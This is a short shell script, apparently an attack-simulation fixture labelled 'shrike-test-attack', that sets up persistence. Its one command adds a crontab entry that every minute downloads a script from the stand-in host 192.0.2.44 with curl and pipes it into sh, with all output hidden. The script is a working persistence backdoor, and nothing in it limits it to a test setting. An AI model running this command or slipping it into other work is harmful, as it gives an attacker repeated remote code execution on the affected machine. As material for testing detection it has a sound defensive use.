#!/bin/sh
# shrike-test-attack: persistence: crontab injection re-downloading the dropper every minute
(crontab -l 2>/dev/null; echo "* * * * * curl -fsSL http://192.0.2.44/r.sh | sh >/dev/null 2>&1") | crontab -
